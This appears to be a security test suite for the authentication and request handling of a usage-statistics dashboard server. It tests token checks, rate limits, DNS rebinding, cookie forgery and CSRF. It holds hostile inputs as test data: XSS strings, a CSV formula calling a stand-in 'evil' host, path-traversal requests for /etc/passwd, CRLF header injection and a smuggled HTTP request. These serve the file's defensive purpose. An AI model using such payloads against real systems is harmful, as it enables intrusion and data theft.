import { spawn } from 'node:child_process';
import { createHmac } from 'node:crypto';
import { once } from 'node:events';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import net, { type AddressInfo } from 'node:net';
import { networkInterfaces, tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as pause } from 'node:timers/promises';
import { afterEach, describe, expect, test, vi } from 'vitest';
import { TrackUsageError } from '../../src/errors.ts';
import { wallClock } from '../../src/platform/clock.ts';
import { Access } from '../../src/server/access.ts';
import { ENDPOINTS, type HandlerSource } from '../../src/server/api.ts';
import { readFiles, sendFile } from '../../src/server/files.ts';
import { LiveStreams } from '../../src/server/live.ts';
import { type HandlerOptions, readHandlerOptions } from '../../src/server/options.ts';
import type { Queries } from '../../src/server/queries.ts';
import { MemoryStorage } from '../../src/storages/memory/index.ts';
import { type ClientResponse, connect, exchange, parseResponses } from '../support/client.ts';
import { expectErrors } from '../support/expected-errors.ts';
import {
  ALL_SUMMARIES,
  bearer,
  cookieOf,
  emptySource,
  fillStorage,
  form,
  HOST,
  jsonOf,
  NOW,
  serve,
  sourceOf,
  statusOf,
  type TestServer,
  TOKEN,
  whenListening,
} from './support.ts';

// Not sent to clients, but printed for the operator.
expectErrors(/^track-usage: (?:authorize|the dashboard) failed: (?:secret|Cannot set headers)/);

const cleanups: (() => unknown)[] = [];
afterEach(async () => {
  vi.restoreAllMocks();
  for (const close of cleanups.splice(0).reverse()) await close();
});

async function start(options?: HandlerOptions, source?: HandlerSource, host?: string): Promise<TestServer> {
  const server = await serve(source ?? emptySource(), options, host);
  cleanups.push(() => server.close());
  return server;
}

/** Uncaught exceptions and unhandled rejections. There must be none. */
const uncaught: unknown[] = [];
process.on('unhandledRejection', (reason) => uncaught.push(reason));
process.on('uncaughtException', (error) => uncaught.push(error));
afterEach(() => expect(uncaught.splice(0)).toEqual([]));

const codeOf = (answer: ClientResponse) => [answer.status, jsonOf(answer).code];
const SITE = '/usage/api/v1/site';
const QUERIES = [
  ...ENDPOINTS.map(({ path }) => `/api/v1${path.replace('{summary}', 'urls')}`),
  ...['/api/v1/openapi.json', '/api/v1/live', '/api/v1/nothing', '/api/', '/metrics'],
  ...['/api/v1/records?format=csv', '/api/v1/summaries/urls?format=ndjson'],
];
const LOCAL = { host: 'localhost' };

/** Returns the token of a link. */
const tokenOf = (link: string) => new URL(link).searchParams.get('token')!;

describe('without permission', () => {
  const guards: [name: string, options: HandlerOptions, headers: Record<string, string>][] = [
    ['a token', { token: TOKEN }, {}],
    ['another token', { token: TOKEN }, bearer('another-token-of-22-ch')],
    ['authorize', { authorize: () => false }, {}],
    ['local access without the link', {}, LOCAL],
  ];
  test.each(guards)('no URL responds: %s', async (_, options, headers) => {
    const server = await start(options);
    for (const path of QUERIES) {
      for (const method of ['GET', 'HEAD']) {
        const answer = await server.request(`/usage${path}`, { method, headers });
        expect([path, answer.status]).toEqual([path, expect.toBeOneOf([401, 429])]);
        expect(answer.headers['www-authenticate'] ?? answer.headers['retry-after']).toBeDefined();
      }
    }
  });

  test('other spellings of a URL are rejected', async () => {
    const server = await start({ token: TOKEN });
    for (const path of [
      ...['/usage//api/v1/site', '/usage/%61pi/v1/site'],
      ...['/usage/API/v1/site', '/usage/api\\v1\\site', '/usage/api/v1/site/', '/usage/api/v1/site%00'],
      ...['/usage/api%2fv1%2fsite', '/usage/metrics/', '/usage/;/api/v1/site', '/usage/?/api/v1/site'],
    ]) {
      const { status } = await server.request(path);
      expect([path, status]).toEqual([path, expect.toBeOneOf([401, 404])]);
    }
    // The app may normalize them to another path, so they are left to it.
    for (const path of ['/usage/./api/v1/site', '/usage/x/../api/v1/site', '/usage/%2e/api/v1/site']) {
      expect([path, String((await server.request(path)).body)]).toEqual([path, 'app']);
    }
  });
});

describe('local access', () => {
  test('is granted by a link that works once', async () => {
    const { handler, request } = await start({});
    const link = handler.link('http://localhost');
    expect((await request(SITE, { headers: LOCAL })).status).toBe(401);
    const path = link.replace('http://localhost', '');
    // A HEAD request does not use up the link.
    await request(path, { method: 'HEAD', headers: LOCAL });
    const first = await request(`${path}&range=7d`, { headers: LOCAL });
    expect([first.status, first.headers.location]).toEqual([303, '/usage/?range=7d']);
    expect(first.headers['referrer-policy']).toBe('no-referrer');
    expect(first.headers['cache-control']).toBe('no-store');
    const cookie = cookieOf(first);
    expect((await request(SITE, { headers: { ...LOCAL, cookie } })).status).toBe(200);
    expect(codeOf(await request(path, { headers: LOCAL }))).toEqual([401, 'LINK_WRONG']);
    // A signed-in client may follow it again.
    expect((await request(path, { headers: { ...LOCAL, cookie } })).status).toBe(303);
    for (const token of ['', 'x', '__proto__', tokenOf(link)]) {
      expect((await request(`/usage/?token=${token}`, { headers: LOCAL })).status).toBe(401);
    }
  });

  test('prints the link once, only to stderr, and not for other host names', async () => {
    const stdout = vi.spyOn(process.stdout, 'write').mockReturnValue(true);
    const { handler, request } = await start({});
    handler.link('http://localhost');
    await request('/usage/', { headers: LOCAL });
    for (const host of [
      'evil.example/?.localhost',
      'evil.example#.localhost',
      'a b.localhost',
      'evil@localhost',
    ]) {
      expect([host, (await request('/usage/', { headers: { host } })).status]).toEqual([host, 421]);
    }
    expect(stdout).not.toHaveBeenCalled();
  });

  test('is denied to other machines', async () => {
    const other = Object.values(networkInterfaces())
      .flat()
      .find((found) => found?.family === 'IPv4' && !found.internal)?.address;
    expect(other, 'this machine has an address that others can reach').toBeDefined();
    const server = await start({}, undefined, '0.0.0.0');
    const far = { host: other!, port: server.port, secure: false };
    for (const header of ['', 'X-Forwarded-For: 127.0.0.1\r\n', 'Forwarded: for=127.0.0.1\r\n']) {
      for (const path of ['/usage', '/usage/', SITE, '/usage/api/v1/live']) {
        const received = await exchange(
          far,
          `GET ${path} HTTP/1.1\r\nHost: localhost\r\n${header}Connection: close\r\n\r\n`,
        );
        expect(received).toMatch(/^HTTP\/1.1 403 /);
        expect(received).toContain('ACCESS_LOCAL');
      }
    }
    const link = server.handler.link('http://localhost');
    const received = await exchange(
      far,
      `GET /usage/?token=${tokenOf(link)} HTTP/1.0\r\nHost: localhost\r\n\r\n`,
    );
    expect(received).toMatch(/^HTTP\/1.1 403 /);
    // The link is still valid.
    expect((await server.request(link.slice('http://localhost'.length), { headers: LOCAL })).status).toBe(
      303,
    );
  });

  test.each([
    ...[
      'x-forwarded-for',
      'x-forwarded-host',
      'x-forwarded-proto',
      'x-forwarded-anything',
      'forwarded',
      'via',
    ],
    ...['x-real-ip', 'x-client-ip', 'x-cluster-client-ip', 'true-client-ip', 'cf-connecting-ip', 'cf-ray'],
  ])('is denied through a proxy: %s', async (name) => {
    const { request } = await start({});
    const answer = await request(SITE, { headers: { ...LOCAL, [name]: '127.0.0.1' } });
    expect(codeOf(answer)).toEqual([403, 'ACCESS_LOCAL']);
  });
});

test('rejects unknown host names (DNS rebinding)', async () => {
  const hosts = [
    'evil.example',
    'localhost.evil.example',
    '127.0.0.1.evil.example',
    'evil.example:80',
    'localhost.',
    '10.0.0.1',
  ];
  for (const options of [{}, { public: true }] as HandlerOptions[]) {
    const { request, handler, port } = await start(options);
    const token = options.public ? '' : `?token=${tokenOf(handler.link('http://localhost'))}`;
    for (const host of hosts) {
      expect([host, ...codeOf(await request(`/usage/${token}`, { headers: { host } }))]).toEqual([
        host,
        421,
        'ACCESS_HOST',
      ]);
    }
    const none = await exchange(
      { host: HOST, port, secure: false },
      'GET /usage/api/v1/site HTTP/1.0\r\n\r\n',
    );
    expect(none).toMatch(/^HTTP\/1.1 421 /);
    for (const host of [
      'localhost',
      'localhost:3000',
      'app.localhost',
      '127.0.0.1:80',
      '[::1]:3000',
      'LOCALHOST',
    ]) {
      expect((await request(SITE, { headers: { host } })).status).toBe(options.public ? 200 : 401);
    }
  }
  const named = await start({ token: TOKEN, hosts: ['Stats.example.com'] });
  expect(
    (await named.request(SITE, { headers: { ...bearer(), host: 'stats.example.com:8080' } })).status,
  ).toBe(200);
  expect((await named.request(SITE, { headers: { ...bearer(), host: 'localhost' } })).status).toBe(421);
});

describe('the token', () => {
  test('is protected by a rate limit that affects no other client', async () => {
    const { request } = await start({ token: TOKEN });
    const cookie = cookieOf(await request('/usage/login', form(TOKEN)));
    for (let i = 0; i < 5; i++) {
      expect((await request(SITE, { headers: bearer(`guess-${i}`) })).status).toBe(401);
      // The form has a separate counter, so that guessing programs do not prevent signing in.
      expect((await request('/usage/login', form(`guess-${i}`))).status).toBe(401);
    }
    for (const answer of [
      await request(SITE, { headers: bearer() }),
      await request('/usage/login', form(TOKEN)),
    ]) {
      expect(codeOf(answer)).toEqual([429, 'ACCESS_SLOWED']);
      expect(Number(answer.headers['retry-after'])).toBeGreaterThan(0);
      expect(Number(answer.headers['retry-after'])).toBeLessThanOrEqual(60);
    }
    // Signed-in clients and other addresses are not affected.
    expect((await request(SITE, { headers: { cookie } })).status).toBe(200);
  });

  test('is rate-limited per IPv4 address and IPv6 network, in limited memory', async () => {
    const access = new Access(readHandlerOptions({ token: TOKEN }));
    const from = (remoteAddress: string, given: string) =>
      access.allows({ headers: bearer(given), socket: { remoteAddress } } as unknown as http.IncomingMessage);
    for (let i = 0; i < 5; i++) await from('2001:db8::1', `guess-${i}`);
    // Other spellings and addresses of the same network.
    for (const same of ['2001:db8::2', '2001:db8::1:1', '2001:db8:0:0:ffff:1:1:1', '2001:0db8::9%eth0']) {
      expect(await from(same, TOKEN)).toMatchObject({ status: 429 });
    }
    for (const other of ['2001:db8:0:1::1', '2001:db9::1', '::1', '192.0.2.1', '::ffff:192.0.2.1']) {
      expect(await from(other, TOKEN)).toBe(true);
    }
    const before = process.memoryUsage().heapUsed;
    for (let i = 0; i < 100_000; i++) await from(`10.${i >> 16}.${(i >> 8) & 255}.${i & 255}`, 'guess');
    expect(process.memoryUsage().heapUsed - before).toBeLessThan(50_000_000);
    vi.spyOn(wallClock, 'now').mockReturnValue(Date.now() + 61_000);
    expect(await from('2001:db8::1', TOKEN)).toBe(true);
  });

  test('is compared in constant time, regardless of its length', async () => {
    const access = new Access(readHandlerOptions({ token: TOKEN }));
    const guess = (given: string, address: string) =>
      access.allows({
        headers: bearer(given),
        socket: { remoteAddress: address },
      } as unknown as http.IncomingMessage);
    // Hashes are compared, so that prefixes and lengths make no measurable difference.
    let address = 0;
    for (const given of ['a', TOKEN.slice(0, -1), `${TOKEN}x`, TOKEN.toUpperCase(), 'a'.repeat(10_000)]) {
      expect(await guess(given, `10.0.0.${address++}`)).toBe(false);
    }
    const source = readFileSync(new URL('../../src/server/access.ts', import.meta.url), 'utf8');
    expect(source).toContain('timingSafeEqual(hash(one), hash(other))');
    expect(source).not.toMatch(/(?:given|bearer|signature) ?===? ?(?:token|this)/);
  });

  test('is not accepted in a URL', async () => {
    const { request } = await start({ token: TOKEN });
    expect((await request(`/usage/?token=${TOKEN}`)).status).toBe(401);
    expect((await request(`${SITE}?token=${TOKEN}`)).status).toBe(401);
  });

  test('is not locked by images on pages of other sites', async () => {
    const { request } = await start({ token: TOKEN });
    for (let i = 0; i < 20; i++) await request('/usage/?token=wrong');
    expect((await request('/usage/login', form(TOKEN))).status).toBe(303);
  });

  test('must be long, and is never in an error message', () => {
    for (const token of ['secret', 'with blanks in the middle', 'a-line-that-ends-here\n', 'ä'.repeat(20)]) {
      const read = () => readHandlerOptions({ token });
      expect(read).toThrow(expect.objectContaining({ code: 'OPTION_INVALID' }));
      expect(read).not.toThrow(token);
    }
  });
});

describe('the session', () => {
  test('has a cookie with secure attributes', async () => {
    const { request } = await start({ token: TOKEN, path: '/stats' });
    const plain = String((await request('/stats/login', form(TOKEN))).headers['set-cookie']);
    expect(plain).toMatch(
      /^track-usage-session=\d{10}\.[\w-]{43}; Max-Age=604800; Path=\/stats; HttpOnly; SameSite=Strict$/,
    );
    const given = form(TOKEN);
    const behind = await request('/stats/login', {
      ...given,
      headers: { ...given.headers, 'x-forwarded-proto': 'https' },
    });
    expect(String(behind.headers['set-cookie'])).toContain('; Secure');
    expect(plain).not.toContain(TOKEN);
  });

  test('cannot be forged', async () => {
    const { request } = await start({ token: TOKEN });
    const right = cookieOf(await request('/usage/login', form(TOKEN))).split('=')[1]!;
    const [expires = '', signature = ''] = right.split('.');
    const later = String(Number(expires) + 1);
    const sign = (key: string, text: string) => createHmac('sha256', key).update(text).digest('base64url');
    for (const value of [
      ...[
        '',
        '.',
        `${expires}.`,
        `.${signature}`,
        expires,
        `${later}.${signature}`,
        `${expires}.${signature}x`,
      ],
      ...[`${expires}0.${signature}`, `-${expires}.${signature}`, `${expires}.${signature.toLowerCase()}`],
      ...[`9999999999.${sign('', '/usage 9999999999')}`, `9999999999.${sign(TOKEN, '/usage 9999999999')}`],
      ...['__proto__', '%00', '%', `${expires}e9.${signature}`],
    ]) {
      const { status } = await request(SITE, { headers: { cookie: `track-usage-session=${value}` } });
      expect([value, status]).toEqual([value, 401]);
    }
    expect(
      (await request(SITE, { headers: { cookie: `a=b; track-usage-session=${right}; c=d` } })).status,
    ).toBe(200);
  });

  test('expires, and is valid only for its path and token', async () => {
    const one = await start({ token: TOKEN });
    const cookie = cookieOf(await one.request('/usage/login', form(TOKEN)));
    for (const options of [{ token: TOKEN, path: '/other' }, { token: `${TOKEN}2` }] as HandlerOptions[]) {
      const { request, handler } = await start(options);
      expect((await request(`${handler.path}/api/v1/site`, { headers: { cookie } })).status).toBe(401);
    }
    const same = await start({ token: TOKEN });
    expect((await same.request(SITE, { headers: { cookie } })).status).toBe(200);
    vi.spyOn(wallClock, 'now').mockReturnValue(Date.now() + 7 * 24 * 3_600_000 + 1_000);
    expect((await one.request(SITE, { headers: { cookie } })).status).toBe(401);
  });

  test('without a token is not valid in another process', async () => {
    const one = await start({});
    const cookie = cookieOf(
      await one.request(one.handler.link('http://localhost').slice('http://localhost'.length), {
        headers: LOCAL,
      }),
    );
    expect((await one.request(SITE, { headers: { ...LOCAL, cookie } })).status).toBe(200);
    const other = await start({});
    expect((await other.request(SITE, { headers: { ...LOCAL, cookie } })).status).toBe(401);
  });
});

describe('pages of other sites', () => {
  test.each([
    [{ 'sec-fetch-site': 'cross-site' }, 403],
    [{ 'sec-fetch-site': 'same-site' }, 403],
    [{ origin: 'http://evil.example' }, 403],
    [{ origin: 'null' }, 403],
    [{ origin: 'http://localhost.evil.example' }, 403],
    [{ origin: 'http://localhost:1', host: 'localhost:2' }, 403],
    [{ origin: 'http://evil.example', 'sec-fetch-site': 'cross-site', host: 'evil.example' }, 403],
    [{ origin: 'http://localhost:1', host: 'localhost:1' }, 303],
    [{ 'sec-fetch-site': 'same-origin', origin: 'https://behind.proxy' }, 303],
    [{}, 303],
  ])('cannot sign in: %j', async (headers, status) => {
    const { request } = await start({ token: TOKEN });
    const given = form(TOKEN);
    const answer = await request('/usage/login', {
      ...given,
      headers: { ...given.headers, ...(headers as object) },
    });
    expect(answer.status).toBe(status);
    expect(answer.headers['set-cookie'] === undefined).toBe(status === 403);
  });

  test('cannot cause changes with GET or a method override', async () => {
    const { request } = await start({ token: TOKEN });
    expect((await request(`/usage/login?token=${TOKEN}`)).status).toBe(405);
    for (const override of ['x-http-method-override', 'x-method-override', 'x-http-method']) {
      const headers = { ...bearer(), [override]: 'POST' };
      expect((await request(`/usage/login?token=${TOKEN}&_method=POST`, { headers })).status).toBe(405);
      expect(
        (await request(SITE, { method: 'POST', headers: { ...bearer(), [override]: 'GET' } })).status,
      ).toBe(405);
    }
    for (const method of ['PUT', 'DELETE', 'PATCH', 'OPTIONS', 'TRACE', 'PROPFIND']) {
      const { status, body } = await request(SITE, { method, headers: bearer() });
      expect([method, status]).toEqual([method, 405]);
      expect(body.toString()).not.toContain(TOKEN);
    }
  });
});

test('sends security headers with every response', async () => {
  const source = emptySource();
  const broken = {
    ...source,
    query: { ...source.query, site: () => Promise.reject(new Error('x')) } as Queries,
  };
  const guarded = await start({ token: TOKEN }, broken);
  const local = await start({});
  const responses = [
    ...(await Promise.all(
      [
        '',
        '/',
        '/nothing',
        '/index.html',
        '/api/v1/site',
        '/api/v1/openapi.json',
        '/api/v1/records?format=csv',
        '/metrics',
      ].map((path) => guarded.request(`/usage${path}`, { headers: bearer() })),
    )),
    await guarded.request(SITE),
    await guarded.request('/usage/login', form('wrong')),
    await guarded.request('/usage/login', form(TOKEN)),
    await guarded.request('/usage/x', { method: 'DELETE' }),
    await local.request('/usage/', { headers: { host: 'evil.example' } }),
    await local.request('/usage/', { headers: { ...LOCAL, via: 'x' } }),
  ];
  for (const { headers } of responses) {
    expect(headers['content-security-policy']).toMatch(
      /^default-src 'none'; script-src 'self'; .*frame-ancestors 'none'$/,
    );
    expect(headers['content-security-policy']).not.toMatch(/unsafe|\*/);
    expect(headers).toMatchObject({
      'x-content-type-options': 'nosniff',
      'x-frame-options': 'DENY',
      'referrer-policy': 'no-referrer',
      'cross-origin-resource-policy': 'same-origin',
    });
    expect(headers['access-control-allow-origin']).toBeUndefined();
    expect(headers['content-type'] ?? 'none').not.toMatch(/html/);
  }
});

describe('untrusted text in records', () => {
  const XSS = '<script>alert(1)</script>"\'><img src=x onerror=alert(1)>\u2028</title>';
  const FORMULA = '=HYPERLINK("http://evil/?"&A1)';
  async function startWithRecord(text: string) {
    const extra = { vars: { [text]: text }, routeParams: { a: text }, geo: { city: text } };
    const fields = [
      'url',
      'route',
      'agent',
      'referrer',
      'language',
      'remoteAddr',
      'forwardedFor',
      'username',
    ] as const;
    const more = [
      'visitor',
      'country',
      'browser',
      'version',
      'platform',
      'blueprint',
      'method',
      'protocol',
      'serverName',
    ] as const;
    const record = Object.fromEntries([...fields, ...more].map((name) => [name, text]));
    const storage = await fillStorage(new MemoryStorage({ hooks: ALL_SUMMARIES }), [
      { date: NOW - 1_000, ...record, extra },
    ]);
    return start({ token: TOKEN }, sourceOf(storage));
  }

  test('is sent only as JSON, CSV and NDJSON, with that content type', async () => {
    const { request } = await startWithRecord(XSS);
    for (const summary of ['/records', ...ALL_SUMMARIES.map((name) => `/summaries/${name}`)]) {
      for (const [format, type] of [
        ['json', 'application/json; charset=utf-8'],
        ['csv', 'text/csv; charset=utf-8; header=present'],
        ['ndjson', 'application/x-ndjson; charset=utf-8'],
      ]) {
        const answer = await request(`/usage/api/v1${summary}?format=${format}`, { headers: bearer() });
        expect([answer.status, answer.headers['content-type']]).toEqual([200, type]);
        expect(answer.headers['x-content-type-options']).toBe('nosniff');
        if (format !== 'json')
          expect(answer.headers['content-disposition']).toMatch(/^attachment; filename="[a-z-]+\./);
      }
    }
  });

  test('is sent only as JSON in problems', async () => {
    const { request } = await startWithRecord('x');
    for (const path of [
      `/api/v1/totals?from=${encodeURIComponent(XSS)}`,
      `/api/v1/${encodeURIComponent(XSS)}`,
      `/${encodeURIComponent(XSS)}`,
    ]) {
      const { headers, status } = await request(`/usage${path}`, { headers: bearer() });
      expect([headers['content-type'], status]).toEqual([
        'application/problem+json; charset=utf-8',
        path.includes('from') ? 400 : 404,
      ]);
    }
  });

  test('is escaped if it is a formula in CSV', async () => {
    const { request } = await startWithRecord(FORMULA);
    for (const path of ['/records', '/summaries/urls', '/summaries/user-agents', '/summaries/remotes']) {
      const text = (await request(`/usage/api/v1${path}?format=csv`, { headers: bearer() })).body.toString();
      expect(text).toContain("'=HYPERLINK");
      expect(text).not.toMatch(/(?:^|,)"?=HYPERLINK/m);
    }
  });
});

describe('the request line', () => {
  test('cannot access files outside the dashboard', async () => {
    const directory = mkdtempSync(join(tmpdir(), 'track-usage-files-'));
    cleanups.push(() => rmSync(directory, { recursive: true }));
    writeFileSync(join(directory, 'index.html'), '<p>dashboard');
    writeFileSync(join(directory, 'app-abcdefgh.js'), 'x'.repeat(300_000));
    writeFileSync(join(directory, 'app-abcdefgh.js.gz'), 'zipped');
    writeFileSync(join(directory, 'secret.env'), 'SECRET');
    const files = await readFiles(directory);
    const server = http.createServer((request, response) => {
      if (!sendFile(request, response, files, request.url!)) response.writeHead(404).end();
    });
    await whenListening(server.listen(0, HOST));
    cleanups.push(() => server.close());
    const address = { host: HOST, port: (server.address() as AddressInfo).port, secure: false };
    const get = async (path: string, headers = '') =>
      parseResponses(
        await exchange(address, `GET ${path} HTTP/1.1\r\nHost: x\r\n${headers}Connection: close\r\n\r\n`),
      )[0]!;
    expect((await get('/')).head).toMatch(/text\/html[\s\S]*no-cache|no-cache[\s\S]*text\/html/);
    expect((await get('/app-abcdefgh.js', 'Accept-Encoding: gzip\r\n')).head).toMatch(
      /content-encoding: gzip/i,
    );
    expect((await get('/app-abcdefgh.js')).head).toMatch(/immutable/);
    expect((await get('/app-abcdefgh.js', 'Range: bytes=5-2\r\n')).body).toHaveLength(300_000);
    for (const path of [
      ...[
        '/../package.json',
        '/..%2fpackage.json',
        '/%2e%2e/package.json',
        '/..\\package.json',
        '/./index.html',
      ],
      ...[
        '/index.html%00.js',
        '/%00',
        '//etc/passwd',
        '/C:/',
        '/secret.env',
        '/.',
        '/constructor',
        '/__proto__',
        '/%',
      ],
    ]) {
      expect([path, (await get(path)).status]).toEqual([path, 404]);
    }
    // Replacing the package on disk does not affect a running app.
    rmSync(directory, { recursive: true });
    expect((await get('/')).status).toBe(200);
    cleanups.pop();
    cleanups.pop();
    server.close();
  });

  test('is handled safely in unusual forms', async () => {
    const { port } = await start({ token: TOKEN });
    const address = { host: HOST, port, secure: false };
    const raw = (target: string) =>
      exchange(address, `GET ${target} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n`);
    for (const target of [
      'http://x/usage/api/v1/site',
      'http://localhost/usage/',
      '*',
      '//usage/api/v1/site',
      '/./usage/',
      '/usage/../',
      '/usage/%2e%2e/%2e%2e/',
      '/usage/\\..\\..',
    ]) {
      expect([target, (await raw(target)).endsWith('app')]).toEqual([target, true]);
    }
    for (const target of ['/usage/..%2f..%2fetc/passwd', '/usage/%00']) {
      const received = await raw(target);
      expect([target, received.slice(0, 13)]).toEqual([target, 'HTTP/1.1 404 ']);
      expect(received).toContain('PATH_UNKNOWN');
    }
    const [moved] = parseResponses(await raw('/usage?a=%0d%0aX-Evil:1&b=%0aSet-Cookie:x'));
    expect(moved!.status).toBe(303);
    expect(moved!.head).not.toMatch(/^(?:X-Evil|Set-Cookie)/im);
    const [entered] = parseResponses(await raw('/usage/?token=x&x=%0d%0aX-Evil:1'));
    expect(entered!.head).not.toMatch(/^X-Evil/im);
  });

  test('does not let an unread body become the next request', async () => {
    const { port } = await start({ token: TOKEN });
    const smuggled = 'GET /usage/api/v1/openapi.json HTTP/1.1\r\nHost: localhost\r\n\r\n';
    for (const line of [
      'POST /usage/api/v1/site',
      'GET /usage/nothing',
      'POST /usage/login',
      'DELETE /usage/',
    ]) {
      const received = await exchange(
        { host: HOST, port, secure: false },
        `${line} HTTP/1.1\r\nHost: localhost\r\nContent-Length: ${smuggled.length}\r\n\r\n${smuggled}` +
          'GET / HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n',
      );
      expect(parseResponses(received)).toHaveLength(2);
      expect(received.endsWith('app')).toBe(true);
    }
  });
});

describe('the login form', () => {
  test('is rejected without being read if it is too long', async () => {
    const { request, port } = await start({ token: TOKEN });
    const long = { ...form(TOKEN), body: `token=${'x'.repeat(100_000)}` };
    expect(codeOf(await request('/usage/login', long))).toEqual([413, 'FORM_LONG']);
    const socket = await connect({ host: HOST, port, secure: false });
    socket.write('POST /usage/login HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000000000\r\n\r\n');
    socket.write('x'.repeat(20_000));
    const [received] = await once(socket, 'data');
    expect(String(received)).toMatch(/^HTTP\/1.1 413 [\s\S]*connection: close/i);
    socket.destroy();
    // It does not count as a wrong token.
    for (let i = 0; i < 6; i++) await request('/usage/login', long);
    expect((await request('/usage/login', form(TOKEN))).status).toBe(303);
  });

  test('times out', async () => {
    const { port } = await start({ token: TOKEN, timeout: 200 });
    const began = performance.now();
    const received = await exchange(
      { host: HOST, port, secure: false },
      'POST /usage/login HTTP/1.1\r\nHost: localhost\r\nContent-Length: 30\r\n\r\ntok',
    );
    expect(received).toMatch(/^HTTP\/1.1 408 [\s\S]*FORM_SLOW/);
    expect(performance.now() - began).toBeLessThan(5_000);
  });

  test('may be aborted by the client', async () => {
    const { port, request } = await start({ token: TOKEN });
    for (let i = 0; i < 20; i++) {
      const socket = await connect({ host: HOST, port, secure: false });
      socket.write('POST /usage/login HTTP/1.1\r\nHost: localhost\r\nContent-Length: 30\r\n\r\ntok');
      await pause(5);
      socket.resetAndDestroy();
    }
    await pause(50);
    expect((await request('/')).body.toString()).toBe('app');
  });
});

describe('authorize', () => {
  test.each([
    [
      'throws',
      () => {
        throw new Error('secret');
      },
    ],
    [
      'rejects',
      async () => {
        throw new Error('secret');
      },
    ],
    ['returns a truthy value', () => 'yes'],
    ['resolves to 1', async () => 1],
    ['returns an object', () => ({ ok: true })],
    ['returns undefined', () => undefined],
    ['never settles', () => new Promise(() => {})],
    [
      'rejects later',
      async () => {
        await pause(300);
        throw new Error('late');
      },
    ],
  ] as [string, () => never][])('that %s denies access', async (_, authorize) => {
    const { request } = await start({ authorize, timeout: 150 });
    const answer = await request(SITE);
    expect(codeOf(answer)).toEqual([401, 'AUTH_REFUSED']);
    expect(answer.body.toString()).not.toContain('secret');
    await pause(200);
  });

  test('that returns true grants access', async () => {
    const { request } = await start({ authorize: async ({ headers }) => headers['x-user'] === 'jane' });
    expect((await request(SITE, { headers: { 'x-user': 'jane' } })).status).toBe(200);
    expect((await request(SITE)).status).toBe(401);
  });
});

describe('event streams', () => {
  const CLIENTS = 10_000;

  test(`${CLIENTS} clients: are limited, do not block the app, and are released`, async () => {
    const MAX_STREAMS = 9_000;
    const { port, request } = await start(
      { public: true, maxStreams: MAX_STREAMS },
      { ...emptySource(), status: () => statusOf() },
    );
    const before = process.memoryUsage().heapUsed;
    const program = new URL('open-streams.ts', import.meta.url).pathname;
    const child = spawn(process.execPath, [program, String(port), String(CLIENTS)], {
      stdio: ['pipe', 'pipe', 'inherit'],
    });
    cleanups.push(() => child.kill());
    const [line] = (await once(child.stdout, 'data')) as [Buffer];
    expect(JSON.parse(line.toString())).toEqual({ 200: MAX_STREAMS, 503: CLIENTS - MAX_STREAMS });
    const began = performance.now();
    expect((await request('/')).body.toString()).toBe('app');
    expect(performance.now() - began).toBeLessThan(1_000);
    expect(codeOf(await request('/usage/api/v1/live'))).toEqual([503, 'STREAMS_FULL']);
    expect(process.memoryUsage().heapUsed - before).toBeLessThan(200_000_000);
    child.stdin.end();
    await vi.waitFor(async () => {
      const request = http.get({ host: HOST, port, path: '/usage/api/v1/live' });
      const [response] = await once(request, 'response');
      request.destroy();
      expect(response.statusCode).toBe(200);
    }, 20_000);
  });

  test('are closed if the client does not read', async () => {
    const live = new LiveStreams(
      { ...emptySource(), status: () => statusOf({ captured: Math.random() }) },
      10,
    );
    const response = Object.assign(new http.ServerResponse({ method: 'GET' } as http.IncomingMessage), {
      destroy: vi.fn(() => response.emit('close')),
    });
    Object.defineProperty(response, 'writableLength', { get: () => 100_000 });
    const request = Object.assign(new http.IncomingMessage(new net.Socket()), { method: 'GET' });
    live.begin(request, response as unknown as http.ServerResponse);
    await vi.waitFor(() => expect(response.destroy).toHaveBeenCalled(), 3_000);
    expect(live.isFull).toBe(false);
  });

  test('end when the server closes', async () => {
    const { server, port } = await start({ public: true }, { ...emptySource(), status: () => statusOf() });
    const request = http.get({ host: HOST, port, path: '/usage/api/v1/live' });
    const [response] = await once(request, 'response');
    response.resume();
    const began = performance.now();
    server.close();
    await once(server, 'close');
    expect(performance.now() - began).toBeLessThan(5_000);
  });

  test('require permission, and end immediately for HEAD', async () => {
    const { request } = await start({ token: TOKEN });
    expect((await request('/usage/api/v1/live')).status).toBe(401);
    expect((await request('/usage/api/v1/live', { method: 'HEAD', headers: bearer() })).status).toBe(200);
  });
});

/** Returns a source that answers every query with `answer`. */
function sourceWith(answer: () => Promise<never>): HandlerSource {
  const source = emptySource();
  const query = {
    site: answer,
    totals: answer,
    series: answer,
    top: answer,
    minutes: answer,
    records: answer,
  };
  return { ...source, query };
}

describe('a storage', () => {
  const SECRET = 'postgres://root:hunter2@db.internal:5432/app';
  test.each([
    new Error(`connect ECONNREFUSED ${SECRET}`),
    new TrackUsageError('STORAGE_NOT_FOUND', { value: SECRET }),
    new TrackUsageError('STORAGE_OFFLINE', { what: SECRET, reason: SECRET }),
    new TrackUsageError('STORAGE_SERVER', { value: SECRET, found: '1', reason: 'old' }),
    Object.assign(new Error(SECRET), { stack: `Error\n at /srv/app/${SECRET}` }),
    SECRET,
    null,
  ])('that fails does not reveal its location: %s', async (error) => {
    const { request } = await start(
      { token: TOKEN },
      sourceWith(() => Promise.reject(error)),
    );
    for (const path of [
      'site',
      'totals',
      'series',
      'summaries/urls',
      'records',
      'records?format=csv',
      'records?format=ndjson',
    ]) {
      const answer = await request(`/usage/api/v1/${path}`, { headers: bearer() });
      expect([path, ...codeOf(answer)]).toEqual([path, 503, 'STORAGE_SILENT']);
      expect(answer.body.toString()).not.toMatch(/hunter2|db\.internal|root|\/srv/);
    }
  });

  test('that hangs: queries time out, and the number of concurrent ones is limited', async () => {
    let running = 0;
    let maxRunning = 0;
    const release: (() => void)[] = [];
    const hangs = sourceWith(() => {
      running += 1;
      maxRunning = Math.max(maxRunning, running);
      return new Promise((_, reject) =>
        release.push(() => {
          running -= 1;
          reject(new Error('late'));
        }),
      );
    });
    const { request } = await start({ public: true, maxQueries: 2, timeout: 500 }, hangs);
    const began = performance.now();
    const responses = await Promise.all(Array.from({ length: 60 }, () => request('/usage/api/v1/totals')));
    const codes = responses.map((answer) => codeOf(answer).join(' '));
    expect(maxRunning).toBe(2);
    // Two run, twelve times as many wait.
